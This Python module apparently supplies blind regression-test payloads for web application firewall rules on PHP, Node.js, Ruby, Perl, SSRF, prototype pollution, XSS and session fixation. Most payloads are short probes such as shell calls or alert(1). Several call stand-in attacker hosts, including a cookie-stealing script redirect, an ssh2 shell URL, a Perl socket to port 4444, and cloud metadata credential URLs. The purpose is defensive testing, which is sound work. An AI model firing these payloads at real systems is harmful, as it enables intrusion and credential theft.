"""Blind examples, fourth author of the titles: the positive regression tests a careful rule author writes for each
CRS 3.3.4 request-rule title at paranoia levels 1-2 of the PHP (933), Node.js (934), XSS (941) and session
fixation (943) families, plus the request-rule titles CRS 4.x added in those families (Node.js 1/2 and 2/2, SSRF
by cloud metadata URL and by IP address, prototype pollution, Ruby, Perl, Node.js DoS, the PHP data scheme,
JavaScript methods, functions called without parentheses), with benign requests that carry the same words.

Families and sub-families: one sub-family per detection title (kebab-case from the title; the IE XSS filter
titles, identical in wording, are told apart by their rule id).
- php: php-open-tag, php-script-file-upload, php-configuration-directive, php-variables, php-io-stream,
  php-wrapper-scheme, php-high-risk-function-name, php-high-risk-function-call, php-serialized-object-injection,
  php-variable-function-call, php-variable-function-call-933210, php-medium-risk-function-name.
- xss: xss-libinjection, xss-script-tag-vector, xss-event-handler-vector, xss-attribute-vector,
  xss-javascript-uri-vector, noscript-html-injection, noscript-attribute-injection, node-validator-blacklist,
  ie-xss-filters-941190 ... ie-xss-filters-941300, us-ascii-malformed-encoding, utf7-encoding-ie-xss,
  jsfuck-hieroglyphy, javascript-global-variable, xss-libinjection-pl2, disallowed-html-attributes,
  html-tag-handler, ie-xss-filters-941330, ie-xss-filters-941340, angularjs-template-injection,
  javascript-method, js-function-without-parentheses.
- generic: nodejs-injection, nodejs-injection-crs4, ssrf-cloud-metadata-url, ssrf-url-ip-address,
  javascript-prototype-pollution, ruby-injection, perl-injection, nodejs-dos, php-data-scheme,
  session-fixation-cookie-in-html, session-fixation-off-domain-referer, session-fixation-no-referer.
Each title has the canonical attack it names, one test per alternative of its family (keyword, function,
operator, tag, wrapper, file extension), and the variants a rule must still catch: other quoting, casing,
whitespace and comment substitutes, concatenation, and the encodings a server decodes (URL and double URL,
HTML entities, unicode escapes in JSON, Latin-1 bytes, UTF-7).

Placements: each payload goes to two or three places, rotating. About half are our real routes: query of
/api/users, form of /admin/users/search with csrf_token, JSON of /api/users, a cookie, the User-Agent, the
Referer, another header (X-Client-Note), a parameter name, an XML body, a multipart field or filename, the URL
path. The rest are sent the way a WAF's regression suite sends them ("rs-" placements): to paths that are not
our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter
names, as a query string, a form body, a JSON body, an XML body, a raw form-typed body, or in the User-Agent,
the Referer, a custom header or a cookie. Uploads, the session fixation titles and prototype pollution have
placements of their own (filenames and X-Filename headers, session parameter names with and without an
off-domain Referer, bracketed parameter names and JSON keys).

Authorship and independence: written for this repository from general knowledge and the rule titles alone, by
an author who had not seen the other sets written for the same titles; no ruleset file, regression test, rule
engine source or public payload list was read. Measured once through the real stack on unchanged code, and no
payload was changed after the measurement. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import base64
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose

NAME = "fortyfourth"

Entry = str | tuple[str, tuple[str, ...]]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# payloads also sent as JSON strings written with \uXXXX escapes
UNI = ("json-unicode", "rs-json-unicode")

# ---------------------------------------------------------------- PHP (933)
PHP_OPEN_TAG: list[Entry] = [
    "<?php system('id'); ?>",
    "<?PHP echo 1;?>",
    "<?= phpinfo() ?>",
    "<? passthru($_GET[c]); ?>",
    "<?php\n@eval($_POST['x']);",
    "[php]echo 1;[/php]",
    "<script language=\"php\">system('id');</script>",
    "<%= 7*7 %>",
    "%3C%3Fphp%20phpinfo()%3B%3F%3E",
    "&lt;?php phpinfo(); ?&gt;",
    ("<?php phpinfo(); ?>", UNI),
    "<?PhP/**/system('id');",
]

UPLOAD = ("multipart-filename", "rs-multipart-filename")
PHP_UPLOAD: list[Entry] = [
    ("shell.php", (*UPLOAD, "header:X-Filename")),
    ("shell.php3", (*UPLOAD, "rs-header:X-File-Name")),
    ("shell.php5", (*UPLOAD, "rs-header:X_Filename")),
    ("shell.phtml", (*UPLOAD, "header:X-Filename")),
    ("SHELL.PHP", UPLOAD),
    ("avatar.pHp5", (*UPLOAD, "rs-header:X-Filename")),
    ("avatar.jpg.php", (*UPLOAD, "rs-header:X-File-Name")),
    ("shell.phar", UPLOAD),
    ("shell.phps", UPLOAD),
    ("shell.pht", UPLOAD),
    ("shell.php.", (*UPLOAD, "header:X-File-Name")),
    ("shell.php%00.jpg", UPLOAD),
]

PHP_CONFIG: list[Entry] = [
    "allow_url_include=On",
    "allow_url_fopen=1",
    "auto_prepend_file=php://input",
    "auto_append_file=/etc/passwd",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", ("query-raw", "rs-query-raw")),
    "disable_functions=",
    "open_basedir=/",
    "safe_mode=0",
    "register_globals=on",
    "display_errors = On",
    "ALLOW_URL_INCLUDE%3DOn",
]

PHP_VARIABLES: list[Entry] = [
    "$_GET['cmd']",
    "$_POST[x]",
    "$_COOKIE[\"sess\"]",
    "$_REQUEST['a']",
    "$_SERVER['HTTP_USER_AGENT']",
    "$_FILES['f']['tmp_name']",
    "$_ENV",
    "$_SESSION['admin']=1",
    "$GLOBALS['x']",
    "$HTTP_RAW_POST_DATA",
    "$_SeRvEr['DOCUMENT_ROOT']",
    "%24_GET%5Bc%5D",
]

PHP_IO_STREAM: list[Entry] = [
    "php://input",
    "php://stdin",
    "php://output",
    "php://stderr",
    "php://stdout",
    "php://fd/0",
    "php://memory",
    "php://filter/read=convert.base64-encode/resource=index.php",
    "PHP://INPUT",
    ("php://input", UNI),
    "php%3A%2F%2Finput",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
]

PHP_WRAPPER: list[Entry] = [
    "zlib://archive.gz",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://backup.bz2",
    "glob:///var/www/html/*",
    "phar:///tmp/upload.jpg/x.php",
    "ssh2.shell://user:pass@attacker.example:22/xterm",
    "ssh2.exec://attacker.example/id",
    "ssh2.sftp://attacker.example/etc/passwd",
    "rar://archive.rar#x.php",
    "expect://id",
    "zip://uploads/a.zip#shell.php",
    "PHAR://x.phar",
]

PHP_FUNC_NAME: list[Entry] = [
    "base64_decode",
    "shell_exec",
    "passthru",
    "proc_open",
    "pcntl_exec",
    "create_function",
    "fsockopen",
    "phpinfo",
    "file_put_contents",
    "gzinflate",
    "str_rot13",
    "move_uploaded_file",
]

PHP_FUNC_CALL: list[Entry] = [
    "system('id')",
    "exec(\"whoami\")",
    "passthru ( 'ls -la' )",
    "shell_exec/**/('id')",
    "proc_open('id',[],$p)",
    "assert($_POST['x'])",
    "eval(base64_decode('cGhwaW5mbygpOw=='))",
    "SYSTEM('id')",
    "system\t('id')",
    "@system(\"id\")",
    "file_get_contents('/etc/passwd')",
    "preg_replace('/x/e','system(\"id\")','x')",
]

PHP_SERIALIZED: list[Entry] = [
    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
    "O:4:\"User\":2:{s:4:\"role\";s:5:\"admin\";s:2:\"id\";i:1;}",
    "O:+8:\"stdClass\":0:{}",
    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
    "a:1:{i:0;O:6:\"Logger\":1:{s:4:\"file\";s:9:\"shell.php\";}}",
    "o:8:\"stdclass\":0:{}",
    "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:8:\"filename\";s:9:\"shell.php\";}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":0:{}",
    "O%3A8%3A%22stdClass%22%3A0%3A%7B%7D",
    b64("O:8:\"stdClass\":0:{}"),
    "O:8:\"stdClass\":1:{s:1:\"x\";O:8:\"stdClass\":0:{}}",
    ("O:8:\"stdClass\":0:{}", UNI),
]

PHP_VAR_FUNC: list[Entry] = [
    "$a($b)",
    "$f('id')",
    "$_GET['f']($_GET['c'])",
    "${\"a\"}(\"id\")",
    "$$x('id')",
    "$a[0]('id')",
    "$x /* c */ ('id')",
    "$fn\t(\"whoami\")",
    "$o->$m('id')",
    "@$_POST['x']($_POST['y'])",
    "%24f(%27id%27)",
    "$x=$_GET[0];$x($_GET[1]);",
]

PHP_VAR_FUNC_STRING: list[Entry] = [
    "('system')('id')",
    "(\"sys\".\"tem\")(\"id\")",
    "'system'('id')",
    "\"passthru\"(\"ls\")",
    "['system'][0]('id')",
    "(sys.tem)(id)",
    "(\"\\x73ystem\")(\"id\")",
    "(strrev('metsys'))('id')",
    "(base64_decode('c3lzdGVt'))('id')",
    "(\"s\".\"y\".\"s\".\"t\".\"e\".\"m\") ( \"id\" )",
    "(system)('id')",
    "%28%27system%27%29%28%27id%27%29",
]

PHP_MEDIUM_FUNC: list[Entry] = [
    "fopen('/tmp/x.php','w')",
    "fwrite($h, $_POST['c'])",
    "readfile('/etc/passwd')",
    "highlight_file('config.php')",
    "show_source(__FILE__)",
    "curl_exec($ch)",
    "getenv('DB_PASSWORD')",
    "parse_ini_file('/etc/php.ini')",
    "symlink('/etc/passwd','x.txt')",
    "chmod('shell.php', 0777)",
    "unlink('index.php')",
    "scandir('/')",
]

# ---------------------------------------------------------------- Node.js and the other generic families (934)
NODE_33: list[Entry] = [
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "{\"__js_function\":\"function(){return process.mainModule}\"}",
    "eval('require(\"child_process\").exec(\"id\")')",
    "new Function('return process')()",
    "String.fromCharCode(114,101,113,117,105,114,101)",
    "function () { return global.process }",
    "this.constructor.constructor(\"return process\")()",
    "module.exports = function(){ require('child_process').exec('id') }",
    b64("_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    "eval (Buffer.from('cHJvY2Vzcy5leGl0KCk=','base64').toString())",
    ("_$$ND_FUNC$$_function(){process.exit()}()", UNI),
    "EVAL('process.exit()')",
]

NODE_4X: list[Entry] = [
    "require('child_process').exec('id')",
    "require(\"child_process\").execSync(\"cat /etc/passwd\")",
    "process.mainModule.require('child_process').spawnSync('id')",
    "global.process.mainModule.constructor._load('child_process')",
    "require('fs').readFileSync('/etc/passwd','utf8')",
    "process.binding('spawn_sync').spawn({file:'/bin/sh'})",
    "child_process.execFile('/bin/sh',['-c','id'])",
    "require('vm').runInNewContext('process')",
    "require ( 'child_process' ) . fork ( 'x.js' )",
    "require('child'+'_process')",
    "import('child_process').then(m=>m.execSync('id'))",
    "require(`child_process`).spawn(`sh`)",
]

SSRF_METADATA: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.170.2/v2/credentials",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.169.254/metadata/v1/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
]

SSRF_IP: list[Entry] = [
    "http://127.0.0.1/admin",
    "http://10.0.0.1:8080/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0000.0000.0001/",
    "http://017700000001/",
    "http://[::1]:8080/",
    "http://[0:0:0:0:0:ffff:7f00:1]/",
    "https://127.1/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://10.0.0.5:11211/stats",
    "http://0.0.0.0:9200/",
]

# prototype pollution: ("q", raw query string) or ("j", raw JSON body)
POLLUTION: list[tuple[str, str]] = [
    ("q", "__proto__[isAdmin]=true"),
    ("q", "constructor[prototype][isAdmin]=true"),
    ("q", "__proto__.isAdmin=true"),
    ("q", "a[__proto__][polluted]=1"),
    ("q", "x[constructor][prototype][y]=1"),
    ("q", "%5F%5Fproto%5F%5F[admin]=1"),
    ("q", "__pro__proto__to__[x]=1"),
    ("q", "q=x.__proto__.admin%3D1"),
    ("j", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("j", "{\"constructor\": {\"prototype\": {\"isAdmin\": true}}}"),
    ("j", "{\"user\": {\"__proto__\": {\"role\": \"admin\"}}}"),
    ("j", "{\"\\u005f\\u005fproto\\u005f\\u005f\": {\"x\": 1}}"),
    ("j", "{\"a\": [{\"constructor\": {\"prototype\": {\"shell\": \"/bin/sh\"}}}]}"),
]

RUBY: list[Entry] = [
    "Kernel.exec('id')",
    "Kernel.system(\"cat /etc/passwd\")",
    "%x(id)",
    "IO.popen('id').read",
    "Open3.capture2('id')",
    "instance_eval(\"system('id')\")",
    "Object.const_get(:Kernel).send(:system,'id')",
    "ERB.new(\"<%= `id` %>\").result",
    "open('|id').read",
    "public_send(:eval, 'system(\"id\")')",
    "Marshal.load(Base64.decode64('BAhvOghGb28A'))",
    "YAML.load(\"--- !ruby/object:Gem::Installer\\ni: x\")",
]

PERL: list[Entry] = [
    "qx/id/",
    "qx{cat /etc/passwd}",
    "open(F, \"|id\")",
    "exec '/bin/sh'",
    "eval{system 'id'}",
    "@{[system 'id']}",
    "use POSIX; POSIX::system('id')",
    "perl -e 'exec \"/bin/sh\"'",
    "${\\ system('id')}",
    "s/x/system(\"id\")/ee",
    "open(my $fh, '<', '/etc/passwd')",
    "require IO::Socket::INET; IO::Socket::INET->new('203.0.113.5:4444')",
]

NODE_DOS: list[Entry] = [
    "while(true){}",
    "for(;;){}",
    "while(1);",
    "do{}while(true)",
    "(function f(){f()})()",
    "new Array(1e9).join('x')",
    "'a'.repeat(2**30)",
    "Buffer.alloc(1e10)",
    "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
    "while (true) { }",
    "process.nextTick(function x(){process.nextTick(x)})",
    "for ( ; ; ) ;",
]

PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + b64("<?php system($_GET['c']); ?>"),
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain;base64," + b64("<?php phpinfo();?>"),
    "data://application/x-httpd-php;base64," + b64("<?php echo 1;?>"),
    "DATA://text/plain,<?php echo 1;?>",
    "data:;base64," + b64("<?php eval($_POST[1]);?>"),
    "data://text/html,<?=`id`?>",
    "data:text/x-php,<?php system('id');",
    "data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHA",
    "data://text/plain;charset=utf-8;base64," + b64("<?php passthru('id');?>"),
    "data:text/plain,%3C%3Fphp%20phpinfo()%3B",
]

COOKIE_IN_HTML: list[Entry] = [
    "<script>document.cookie=\"PHPSESSID=attacker123; path=/; expires=Fri, 01 Jan 2038 00:00:00 GMT\";</script>",
    "document.cookie='sessionid=abc;domain=.example.com'",
    "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=fixated; path=/\">",
    "<META HTTP-EQUIV=SET-COOKIE CONTENT=\"sid=1\">",
    "x.cookie=\"a=b\"; expires=Thu, 01 Jan 2099 00:00:00 GMT",
    "document.cookie = \"ASP.NET_SessionId=xyz;  Domain=example.com\"",
    "<img src=x onerror=\"document.cookie='sid=evil;expires=Wed, 01 Jan 2031 00:00:00 GMT'\">",
    "<meta http-equiv = \"set-cookie\" content=\"sid=evil\">",
    "%3Cmeta%20http-equiv%3D%22Set-Cookie%22%20content%3D%22sid%3Devil%22%3E",
    "document['cookie']='sid=evil;expires=Wed, 01 Jan 2031 00:00:00 GMT'",
    "window.document.cookie=\"token=fix;domain=example.org;path=/\"",
    "&lt;meta http-equiv=&quot;Set-Cookie&quot; content=&quot;sid=x&quot;&gt;",
]

# session parameter names with a value an attacker fixes
SESSION_PARAMS = [
    ("PHPSESSID", "9f3b2a1c7d6e5f40a1b2c3d4e5f60718"),
    ("JSESSIONID", "A1B2C3D4E5F60718293A4B5C6D7E8F90"),
    ("ASPSESSIONIDQQGGGNCA", "KHOPLMNBCDEFGHIJKLMNOPQR"),
    ("ASP.NET_SessionId", "fixated0session0id0value0"),
    ("sessionid", "attackerchosen123"),
    ("session_id", "attackerchosen456"),
    ("sid", "s0m3f1x3ds1d"),
    ("CFID", "12345"),
    ("phpsessid", "lowercase0fixation"),
    ("jsessionid", "matrixparam0fixation"),
]
OFF_DOMAIN = ["https://attacker.example/landing", "http://evil.example/?go=1", "https://phish.example.net/login"]

# ---------------------------------------------------------------- XSS (941)
XSS_LIBINJECTION: list[Entry] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(document.domain)>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<img/src=x/onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    ("<script>alert(1)</script>", UNI),
    "<details open ontoggle=alert(1)>",
]

SCRIPT_TAG: list[Entry] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<script type=\"text/javascript\">document.location='//attacker.example/?c='+document.cookie</script>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<sCrIpT>alert(1)//",
    "<script\tsrc=data:,alert(1)>",
    "<script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    ("<script>alert(document.cookie)</script>", UNI),
    "<script language=\"vbscript\">msgbox 1</script>",
]

EVENT_HANDLER: list[Entry] = [
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<svg/onload=alert(1)>",
    "<div onpointerenter=alert(1)>x</div>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<img src=x ONERROR = alert(1)>",
    "x\" onanimationstart=alert(1) style=\"animation-name:x",
    "%22%20onclick%3Dalert(1)%20x%3D%22",
    "&quot; onkeydown=&quot;alert(1)",
]

ATTRIBUTE_VECTOR: list[Entry] = [
    "<a xlink:href=\"javascript:alert(1)\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<html xmlns:xss>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaaaaaa!>",
    "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://attacker.example/x\">]>",
    "<style>@import 'http://attacker.example/x.css';</style>",
    "<link rel=stylesheet href=\"data:text/css;base64,Ym9keXtjb2xvcjpyZWR9\">",
    "<!ENTITY % remote SYSTEM \"http://attacker.example/e.dtd\">",
    "DATA:TEXT/HTML,<svg onload=alert(1)>",
]

JS_URI_VECTOR: list[Entry] = [
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<div style=\"width:10px;background:url(javascript:alert(1))\">",
    "<table background=\"javascript:alert(1)\">",
    "<a style=\"behavior:url(javascript:alert(1))\">",
    "<p style=\"list-style-image:url(javascript:alert(1))\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "x=color:red;background:url(javascript:alert(1))",
    "style=background:url('javascript:alert(1)')",
    "<div style=\"background:url(JaVaScRiPt:alert(1))\">",
    "<div style=\"background:url(&#106;avascript:alert(1))\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
]

NOSCRIPT_HTML: list[Entry] = [
    "<form action=//attacker.example><input name=q>",
    "<style>body{background:red}</style>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<marquee>hi</marquee>",
    "<embed src=//attacker.example/x.swf>",
    "<object data=//attacker.example/x>",
    "<applet code=Evil.class>",
    "<frameset><frame src=//attacker.example>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content=\"0;url=//attacker.example\">",
    "<isindex action=javascript:alert(1) type=image>",
    "< s c r i p t >alert(1)",
]

NOSCRIPT_ATTRIBUTE: list[Entry] = [
    "javascript:alert(document.cookie)",
    "javascript:eval(name)",
    "javascript:\\u0061lert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;charset=utf-8,<svg onload=alert(1)>",
    "@import url(//attacker.example/x.css)",
    "@im\\port'//attacker.example/x.css'",
    "-moz-binding:url(//attacker.example/xss.xml#xss)",
    "javascript://%0aalert(1)",
    "data:,alert(1)",
    "&#x6A;avascript:alert(1)",
]

NODE_VALIDATOR: list[Entry] = [
    "document.cookie",
    "document.write('<img src=//attacker.example/?c='+escape(document.cookie)+'>')",
    "this.parentNode.removeChild(this)",
    "el.innerHTML='<img src=x onerror=alert(1)>'",
    "window.location='//attacker.example'",
    "-moz-binding:url(x.xml#y)",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "DOCUMENT.COOKIE",
    "document/**/.cookie",
    "%64ocument.cookie",
    ("document.write(1)", UNI),
]

IE_941190: list[Entry] = [
    "<style>@import'//attacker.example/x.css';</style>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x</ul>",
    "<style type=\"text/css\">*{x:expression(alert(1))}</style>",
    "<style>p{width:expression(alert(document.cookie))}</style>",
    "<style>@\\69mport 'x.css';</style>",
    "<style>a{behavior:url(#default#time2)}</style>",
    "<style>*{color:&#x65;xpression(alert(1))}</style>",
    "<style>div{background:u\\rl(javascript:alert(1))}</style>",
    "&lt;style&gt;@import 'x.css'&lt;/style&gt;",
]

IE_941200: list[Entry] = [
    "<v:vmlframe src=\"//attacker.example/x.vml#a\">",
    "<x:vmlframe src=http://attacker.example/a.vml>",
    "<v:vmlframe  src = \"x.vml#xss\"></v:vmlframe>",
    "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"x.vml\">",
    "<V:VMLFRAME SRC=\"evil.vml#x\">",
    "<vml:vmlframe/src=x.vml>",
    "<v:rect><v:vmlframe src=javascript:alert(1)>",
    "%3Cv:vmlframe%20src=x.vml%3E",
    "<z:vmlframe\tsrc=x.vml>",
    "&lt;v:vmlframe src=x.vml&gt;",
]

IE_941210: list[Entry] = [
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "java&#x09;script:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "ja&Tab;vascript:alert(1)",
    "java&NewLine;script:alert(1)",
    "jav\tascript:alert(1)",
    "<a href=\"&#74;avascript&colon;alert(1)\">",
    "<iframe src=\"j&#97;v&#97;script:alert(1)\">",
    "%26%23106%3Bavascript:alert(1)",
    "javascript&#58;alert(1)",
]

IE_941220: list[Entry] = [
    "vbscript:msgbox(1)",
    "&#118;bscript:msgbox(1)",
    "&#x76;&#x62;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:MsgBox(\"x\")",
    "vb&#x09;script:alert(1)",
    "VBScript:Execute(\"MsgBox 1\")",
    "vb\tscript:msgbox 1",
    "<a href=\"vbscript&#58;msgbox(1)\">",
    "v&#98;script:alert(document.cookie)",
    "vbs&#x0D;cript:msgbox(1)",
    "<img src=\"vbscript:msgbox('x')\">",
    "vbs&NewLine;cript:msgbox(1)",
]

IE_941230: list[Entry] = [
    "<embed src=\"//attacker.example/x.swf\">",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<embed type=\"image/svg+xml\" src=x.svg>",
    "<embed/src=//attacker.example/x>",
    "<embed code=x.swf allowscriptaccess=always>",
    "<embed\tsrc=javascript:alert(1)>",
    "<EmBeD sRc=x.swf>",
    "%3Cembed%20src%3Dx.swf%3E",
    "&lt;embed src=x.swf&gt;",
    "<embed width=1 height=1 src=\"//attacker.example/a.swf\" allowScriptAccess=\"always\">",
]

IE_941240: list[Entry] = [
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<import implementation=\"//attacker.example/x.htc\">",
    "<?IMPORT NAMESPACE=\"v\" IMPLEMENTATION=\"#default#VML\">",
    "<import/implementation=x.htc>",
    "<?import\tnamespace=x implementation = \"x.htc\">",
    "<html><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS\">",
    "%3C%3Fimport%20implementation%3Dx%3E",
    "&lt;?import implementation=x.htc&gt;",
    "<Import Implementation=\"evil.htc\" namespace=e>",
]

IE_941250: list[Entry] = [
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert(1)</SCRIPT>\">",
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<meta/http-equiv=refresh/content=0;url=//attacker.example>",
    "<meta http-equiv=\"&#114;efresh\" content=\"0;url=//attacker.example\">",
    "<meta name=x http-equiv='set-cookie' content='a=b'>",
    "<meta http-equiv = \"Content-Security-Policy\" content=\"script-src *\">",
    "%3Cmeta%20http-equiv%3Drefresh%20content%3D0%3E",
    "<Meta Http-Equiv=\"REFRESH\" Content=\"1\">",
]

IE_941260: list[Entry] = [
    "<meta charset=\"UTF-7\">",
    "<META CHARSET=x-imap4-modified-utf7>",
    "<meta content=\"text/html\" charset=utf-7>",
    "<meta/charset=utf-16be>",
    "<meta\tcharset = \"ISO-2022-JP\">",
    "%3Cmeta%20charset%3Dutf-7%3E",
    "&lt;meta charset=utf-7&gt;",
    "<meta name=\"viewport\" charset=\"UTF-7\" content=\"x\">",
    "<MeTa ChArSeT=\"shift_jis\">",
]

IE_941270: list[Entry] = [
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<LINK REL=\"import\" HREF=\"//attacker.example/x.html\">",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<link/rel=prefetch/href=//attacker.example>",
    "<link\thref = \"data:text/css,body{}\" rel=stylesheet>",
    "<link rel=\"preload\" as=\"script\" href=\"//attacker.example/x.js\">",
    "%3Clink%20href%3Dx.css%3E",
    "&lt;link href=//attacker.example/x.css&gt;",
    "<LiNk HrEf=x.css>",
]

IE_941280: list[Entry] = [
    "<base href=\"//attacker.example/\">",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<base/href=//attacker.example>",
    "<base\thref = \"http://attacker.example/\">",
    "<base target=_blank href=//attacker.example/>",
    "%3Cbase%20href%3D%2F%2Fattacker.example%3E",
    "&lt;base href=//attacker.example/&gt;",
    "<BaSe HrEf=//attacker.example>",
    "<base href=\"data:text/html,x\">",
]

IE_941290: list[Entry] = [
    "<applet code=\"Evil.class\" codebase=\"//attacker.example/\">",
    "<APPLET CODE=x.class>",
    "<applet>",
    "<applet/code=x>",
    "<applet\tarchive=x.jar code=X>",
    "%3Capplet%20code%3Dx%3E",
    "&lt;applet code=x&gt;",
    "<ApPlEt code=\"javascript:alert(1)\">",
    "<applet object=\"x.ser\">",
]

IE_941300: list[Entry] = [
    "<object data=\"javascript:alert(1)\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//attacker.example/x.sct\"></OBJECT>",
    "<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\">",
    "<object codetype=\"application/java\" code=Evil.class>",
    "<object/data=//attacker.example/x.swf>",
    "<object\ttype = \"image/svg+xml\" data=\"x.svg\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "%3Cobject%20data%3Dx%3E",
    "&lt;object data=x.swf&gt;",
    "<ObJeCt CoDe=x>",
]

LATIN1 = ("query-latin1", "rs-query-latin1")
US_ASCII: list[Entry] = [
    ("\xbcscript\xbealert(1)\xbc/script\xbe", (*LATIN1, "json")),
    ("\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe", (*LATIN1, "rs-form-latin1")),
    ("\xbcimg src=x onerror=alert(1)\xbe", LATIN1),
    ("\xbcsvg onload=alert(1)>", (*LATIN1, "rs-raw-body-latin1")),
    ("<img src=x onerror=alert(1)\xbe", LATIN1),
    ("\xbciframe src=javascript:alert(1)\xbe", (*LATIN1, "form-latin1")),
    ("\xbcSCRIPT\xbealert(1)\xbc/SCRIPT\xbe", LATIN1),
    ("\xbcbody onload=alert(1)\xbe", (*LATIN1, "rs-json")),
    ("x\xbca href=javascript:alert(1)\xbey", LATIN1),
]

UTF7: list[Entry] = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<script+AD4-alert(1)",
    "+ADw-svg onload+AD0-alert(1)+AD4-",
    "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)",
    "+ADw-iframe src+AD0-javascript:alert(1)>",
    "+ADw-/title+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%2BADw-script%2BAD4-alert(1)",
